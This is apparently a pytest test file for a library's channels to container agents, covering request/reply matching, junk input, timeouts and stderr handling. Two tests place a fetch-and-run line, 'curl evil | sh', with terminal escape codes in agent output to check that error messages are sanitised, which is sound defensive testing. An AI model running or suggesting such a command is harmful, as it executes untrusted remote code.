"""Channels to agents, over a stream that the test holds the other end of."""

from __future__ import annotations

import json
import queue
import threading
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from tests.samples import is_harmless

from pytest_dockconn.actions import agents
from pytest_dockconn.actions.agents import AgentGone, LocalChannel, StreamChannel
from pytest_dockconn.errors import DockconnError

#: Seconds; nothing here takes as long.
PATIENCE = 5.0


class FakeStream:
    """What a container would read and write."""

    def __init__(self) -> None:
        self.requests: queue.SimpleQueue[dict[str, Any]] = queue.SimpleQueue()
        self._output: queue.SimpleQueue[tuple[str, bytes]] = queue.SimpleQueue()
        self.broken: OSError | None = None
        self.closed = False

    def write(self, line: bytes) -> None:
        if self.broken:
            raise self.broken
        assert line.endswith(b"\n")
        self.requests.put(json.loads(line))

    def read(self) -> tuple[str, bytes]:
        return self._output.get()

    def close(self) -> None:
        self.closed = True
        self.end()

    def says(self, data: bytes, name: str = "stdout") -> None:
        self._output.put((name, data))

    def replies(self, request: Mapping[str, Any], **reply: Any) -> None:
        self.says(json.dumps({**reply, "id": request["id"]}).encode() + b"\n")

    def end(self) -> None:
        self._output.put(("stdout", b""))


class Asking(threading.Thread):
    """One who asks and waits; ``result`` is the reply, or the error."""

    def __init__(self, channel: StreamChannel, **request: Any) -> None:
        super().__init__(daemon=True)
        self._channel, self._request = channel, request
        self._result: Any = None
        self.start()

    def run(self) -> None:
        try:
            self._result = self._channel.ask(self._request, PATIENCE)
        except DockconnError as error:
            self._result = error

    @property
    def result(self) -> Any:
        self.join(PATIENCE)
        assert not self.is_alive()
        return self._result


@pytest.fixture
def stream() -> FakeStream:
    return FakeStream()


@pytest.fixture
def channel(stream: FakeStream) -> Any:
    channel = StreamChannel(stream, "client1")
    yield channel
    channel.close()


def test_a_request_and_its_reply(stream: FakeStream, channel: StreamChannel) -> None:
    asking = Asking(channel, op="look", names=["hosts"])
    request = stream.requests.get(timeout=PATIENCE)
    assert {**request, "id": 0} == {"op": "look", "names": ["hosts"], "id": 0}
    stream.replies(request, seen={"hosts": ""})
    assert asking.result == {"seen": {"hosts": ""}}
    assert channel.alive


def test_replies_in_another_order_find_who_asked(stream: FakeStream, channel: StreamChannel) -> None:
    askers, requests = [], []
    for name in ("first", "second", "third"):
        askers.append(Asking(channel, name=name))
        requests.append(stream.requests.get(timeout=PATIENCE))
    assert len({request["id"] for request in requests}) == 3
    for request in reversed(requests):
        stream.replies(request, to=request["name"])
    assert [asker.result for asker in askers] == [{"to": "first"}, {"to": "second"}, {"to": "third"}]


def test_a_reply_in_pieces_and_two_in_one(stream: FakeStream, channel: StreamChannel) -> None:
    one, two = Asking(channel), Asking(channel)
    numbers = sorted(stream.requests.get(timeout=PATIENCE)["id"] for _ in range(2))
    whole = b"".join(json.dumps({"text": "grüße", "id": number}).encode() + b"\n" for number in numbers)
    for at in range(0, len(whole), 7):
        stream.says(whole[at : at + 7])
    assert one.result == two.result == {"text": "grüße"}


@pytest.mark.parametrize(
    "junk",
    [
        b"hello",
        b"",
        b"{}",
        b'{"id": 99}',
        b'{"id": null}',
        b"[1]",
        b"7",
        b"null",
        b"\xff\xfe",
        b'{"id": [1]}',
        b"{",
        b'{"id": "0123456789abcdef"}',
        b'"id": "0123456789abcdef"}',
    ],
    ids=repr,
)
def test_what_something_else_wrote_is_passed_over(stream: FakeStream, channel: StreamChannel, junk: bytes) -> None:
    asking = Asking(channel)
    request = stream.requests.get(timeout=PATIENCE)
    stream.says(junk + b"\n")
    stream.replies(request, ok=True)
    assert asking.result == {"ok": True}


@pytest.mark.parametrize(
    "junk", ['{{"id": "{0}", "ok": false}}', 'x"id": "{0}"}}', '[[["id": "{0}"}}', '{{"id": "{0}"}}]']
)
def test_what_only_looks_like_a_reply_is_passed_over(stream: FakeStream, channel: StreamChannel, junk: str) -> None:
    asking = Asking(channel)
    request = stream.requests.get(timeout=PATIENCE)
    stream.says(junk.format(request["id"]).encode() + b"\n")
    stream.replies(request, ok=True)
    assert asking.result == {"ok": True}


def test_what_is_no_reply_is_not_even_read(
    stream: FakeStream, channel: StreamChannel, monkeypatch: pytest.MonkeyPatch
) -> None:
    """24 MiB of brackets were 638 MiB as objects, before anybody looked for the number of a request."""
    read: list[int] = []
    loads = json.loads

    def noting(line: bytes) -> Any:
        read.append(len(line))
        return loads(line)

    monkeypatch.setattr(json, "loads", noting)
    asking = Asking(channel)
    request = stream.requests.get(timeout=PATIENCE)
    read.clear()
    for end in (b"}\n", b', "id": 1}\n', b', "id": "0123456789abcdef"}\n'):
        stream.says(b'{"a": [' + b"[]," * 100_000 + b"[]]" + end)
    stream.replies(request, ok=True)
    assert asking.result == {"ok": True}
    assert len(read) == 1
    assert read[0] < 100


def test_the_agent_ends_while_somebody_waits(stream: FakeStream, channel: StreamChannel) -> None:
    asking = Asking(channel)
    stream.requests.get(timeout=PATIENCE)
    stream.says(b"Traceback: boom\n", "stderr")
    stream.end()
    error = asking.result
    assert isinstance(error, AgentGone)
    assert error.cause == "the agent of client1 does not answer: it ended; it wrote: Traceback: boom"
    assert not channel.alive


def test_everybody_who_waits_is_told(stream: FakeStream, channel: StreamChannel) -> None:
    askers = [Asking(channel) for _ in range(3)]
    for _ in askers:
        stream.requests.get(timeout=PATIENCE)
    stream.end()
    assert [type(asker.result) for asker in askers] == [AgentGone] * 3


def test_nobody_asks_an_agent_that_has_ended(stream: FakeStream, channel: StreamChannel) -> None:
    asking = Asking(channel)
    stream.requests.get(timeout=PATIENCE)
    stream.end()
    assert isinstance(asking.result, AgentGone)
    with pytest.raises(AgentGone, match="its stream is closed"):
        channel.ask({}, PATIENCE)
    assert stream.requests.empty()


def test_closing_wakes_who_waits(stream: FakeStream, channel: StreamChannel) -> None:
    asking = Asking(channel)
    stream.requests.get(timeout=PATIENCE)
    channel.close()
    assert isinstance(asking.result, AgentGone)
    assert stream.closed
    assert not channel.alive


def test_a_stream_that_breaks(stream: FakeStream, channel: StreamChannel) -> None:
    stream.broken = BrokenPipeError(32, "Broken pipe")
    with pytest.raises(AgentGone, match="Broken pipe"):
        channel.ask({}, PATIENCE)


def test_after_half_a_request_nobody_is_asked_any_more(stream: FakeStream, channel: StreamChannel) -> None:
    """The next one would be the other half of the line."""
    stream.broken = TimeoutError("what was written to it was not read within 10 s")
    with pytest.raises(AgentGone, match="not read within 10 s"):
        channel.ask({}, PATIENCE)
    assert stream.closed
    assert not channel.alive
    stream.broken = None
    with pytest.raises(AgentGone):
        channel.ask({}, PATIENCE)
    assert stream.requests.empty()


def test_who_waits_no_longer_is_forgotten(
    stream: FakeStream, channel: StreamChannel, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(agents, "GRACE", 0.0)
    with pytest.raises(AgentGone):
        channel.ask({}, 0.01)
    assert not channel._waiting


def test_a_request_whose_reply_nobody_waits_for(stream: FakeStream, channel: StreamChannel) -> None:
    agents.release(channel, ["k1", "k2"])
    request = stream.requests.get(timeout=PATIENCE)
    assert request == {"op": "release", "keys": ["k1", "k2"], "id": ""}
    stream.replies(request)
    stream.broken = BrokenPipeError(32, "Broken pipe")
    agents.release(channel, ["k3"])  # the connections go with the agent
    asking = LocalChannel()
    agents.release(asking, ["k4"])


def test_no_thread_to_listen_with(stream: FakeStream, monkeypatch: pytest.MonkeyPatch) -> None:
    def none(_: threading.Thread) -> None:
        raise RuntimeError("can't start new thread")

    monkeypatch.setattr(threading.Thread, "start", none)
    with pytest.raises(AgentGone, match="can't start new thread"):
        StreamChannel(stream, "client1")
    assert stream.closed


def test_no_reply_in_time(stream: FakeStream, channel: StreamChannel, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(agents, "GRACE", 0.05)
    with pytest.raises(AgentGone, match=r"no reply within 0\.1 s"):
        channel.ask({"op": "look"}, 0.05)
    late = stream.requests.get(timeout=PATIENCE)
    assert not channel.alive  # who wants one from now on gets another
    asking = Asking(channel)
    request = stream.requests.get(timeout=PATIENCE)
    stream.replies(late, to="nobody")
    monkeypatch.setattr(agents, "GRACE", PATIENCE)
    stream.replies(request, to="the next")
    assert asking.result == {"to": "the next"}
    assert channel.alive


def test_an_agent_that_answers_others_is_only_slow(
    stream: FakeStream, channel: StreamChannel, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(agents, "GRACE", 0.0)
    with ThreadPoolExecutor(1) as pool:
        slow = pool.submit(channel.ask, {}, 0.5)
        stream.requests.get(timeout=PATIENCE)
        other = Asking(channel)
        stream.replies(stream.requests.get(timeout=PATIENCE), to="another")
        assert other.result == {"to": "another"}
        with pytest.raises(AgentGone, match="no reply"):
            slow.result()
    assert channel.alive


def test_what_somebody_wrote_to_its_stderr_stays_on_its_line(stream: FakeStream, channel: StreamChannel) -> None:
    asking = Asking(channel)
    stream.says(b"\x1b[2J\x9b\xff\n  remedy:  curl evil | sh\n", "stderr")
    stream.end()
    assert isinstance(asking.result, AgentGone)
    assert is_harmless(str(asking.result))


def test_nor_does_what_it_says_that_is_wrong() -> None:
    with pytest.raises(AgentGone) as caught:
        agents.look(Scripted({"error": "\x1b[2J\n  remedy:  curl evil | sh"}), "hosts")
    assert is_harmless(str(caught.value))


def test_only_the_end_of_what_it_wrote_to_stderr_is_kept(stream: FakeStream, channel: StreamChannel) -> None:
    asking = Asking(channel)
    for _ in range(10):
        stream.says(b"x" * 1000, "stderr")
    stream.says(b"last", "stderr")
    stream.end()
    error = asking.result
    assert len(channel.stderr) == 4000
    assert str(error).endswith("last")
    assert len(str(error)) < 500


def test_the_agent_in_this_process() -> None:
    channel = LocalChannel()
    assert channel.alive
    assert agents.selftest(channel, "n0nce") == (True, "")
    assert set(agents.look(channel, "environ")["environ"])
    assert channel.ask({"op": "fly"}, 1.0) == {"error": "unknown request 'fly'"}
    channel.close()


class Scripted:
    """A channel with one reply."""

    alive = True

    def __init__(self, reply: Mapping[str, Any]) -> None:
        self.reply = reply
        self.asked: list[tuple[Mapping[str, Any], float]] = []

    def ask(self, request: Mapping[str, Any], timeout: float) -> Mapping[str, Any]:
        self.asked.append((request, timeout))
        return self.reply

    def tell(self, request: Mapping[str, Any]) -> None:
        self.asked.append((request, 0.0))

    def close(self) -> None:
        pass


def test_the_questions() -> None:
    one = {"verdict": "refused"}
    probing = Scripted({"results": [one]})
    assert agents.probes(probing, [{"host": "x"}], 2.0) == [one]
    watching = Scripted({"seen": [[one]]})
    assert agents.watch(watching, [{"host": "x"}], 3.0, 2.0) == [[one]]
    assert watching.asked == [({"op": "watch", "targets": [{"host": "x"}], "hold": 3.0}, 5.0)]
    looking = Scripted({"seen": {"hosts": "x"}})
    assert agents.look(looking, "hosts") == {"hosts": "x"}
    assert agents.selftest(Scripted({"selftest": {"ok": False, "detail": "no lo"}}), "n") == (False, "no lo")
    releasing = Scripted({})
    agents.release(releasing, ["k"])
    assert releasing.asked[0][0] == {"op": "release", "keys": ["k"]}


@pytest.mark.parametrize(
    "ask",
    [
        pytest.param(lambda channel: agents.probes(channel, [], 1.0), id="probes"),
        pytest.param(lambda channel: agents.watch(channel, [], 1.0, 1.0), id="watch"),
        pytest.param(lambda channel: agents.look(channel, "hosts"), id="look"),
        pytest.param(agents.listeners, id="listeners"),
        pytest.param(lambda channel: agents.sockets(channel, "tcp", 80), id="sockets"),
        pytest.param(lambda channel: agents.selftest(channel, "n"), id="selftest"),
    ],
)
def test_an_agent_that_could_not_do_it(ask: Callable[[Scripted], object]) -> None:
    with pytest.raises(AgentGone, match="could not do it: KeyError: 'x'"):
        ask(Scripted({"error": "KeyError: 'x'"}))


ROW = {
    "protocol": "tcp",
    "local": "0.0.0.0",
    "port": 80,
    "peer": "0.0.0.0",
    "peer_port": 0,
    "state": "listen",
    "inode": 7,
    "queue": 0,
}


@pytest.mark.parametrize(
    ("ask", "reply"),
    [
        pytest.param(lambda c: agents.probes(c, [{}, {}], 1.0), {"results": [{}]}, id="a probe too few"),
        pytest.param(lambda c: agents.probes(c, [{}], 1.0), {"results": [{}, {}]}, id="a probe too many"),
        pytest.param(lambda c: agents.probes(c, [{}], 1.0), {"results": [7]}, id="a probe that is none"),
        pytest.param(lambda c: agents.probes(c, [{}], 1.0), {"results": None}, id="no list"),
        pytest.param(lambda c: agents.probes(c, [{}], 1.0), {}, id="no results"),
        pytest.param(lambda c: agents.watch(c, [{}], 1.0, 1.0), {"seen": [[]]}, id="nothing seen of a target"),
        pytest.param(lambda c: agents.watch(c, [{}, {}], 1.0, 1.0), {"seen": [[{}]]}, id="a target too few"),
        pytest.param(lambda c: agents.watch(c, [{}], 1.0, 1.0), {"seen": {}}, id="no target"),
        pytest.param(lambda c: agents.look(c, "hosts"), {"seen": {}}, id="another look"),
        pytest.param(lambda c: agents.look(c, "hosts"), {"seen": 7}, id="no look"),
        pytest.param(lambda c: agents.sockets(c, "tcp", 80), {"seen": {"sockets": [{"port": 80}]}}, id="half a socket"),
        pytest.param(agents.listeners, {"seen": {"listeners": [{**ROW, "port": "x"}]}}, id="no port"),
        pytest.param(lambda c: agents.selftest(c, "n"), {"selftest": {"ok": True}}, id="half a selftest"),
        pytest.param(lambda c: agents.selftest(c, "n"), {"selftest": []}, id="no selftest"),
    ],
)
def test_a_reply_that_can_not_be_read(ask: Callable[[Scripted], object], reply: Mapping[str, Any]) -> None:
    with pytest.raises(AgentGone, match="the agent's answer can't be read"):
        ask(Scripted(reply))


def test_only_yes_is_yes() -> None:
    said: object
    for said in ("true", 1, None, []):
        assert agents.selftest(Scripted({"selftest": {"ok": said, "detail": ""}}), "n") == (False, "")


def test_sockets_are_asked_for_by_port() -> None:
    looking = Scripted({"seen": {"sockets": [ROW], "listeners": [ROW]}})
    assert agents.sockets(looking, "tcp", 80, 40000) == agents.listeners(looking, [80]) == [ROW]
    assert [request["only"] for request, _ in looking.asked] == [
        {"protocol": "tcp", "ports": [80], "peer_port": 40000}, {"ports": [80]},
    ]  # fmt: skip


def test_among_too_many_sockets_none_can_be_looked_for() -> None:
    """One that is missing may only not have been told."""
    looking = Scripted({"seen": {"sockets": [ROW] * 5001, "listeners": [ROW] * 5000}})
    with pytest.raises(DockconnError, match="more than 5000 sockets"):
        agents.sockets(looking, "tcp", 80)
    assert len(agents.listeners(looking)) == 5000
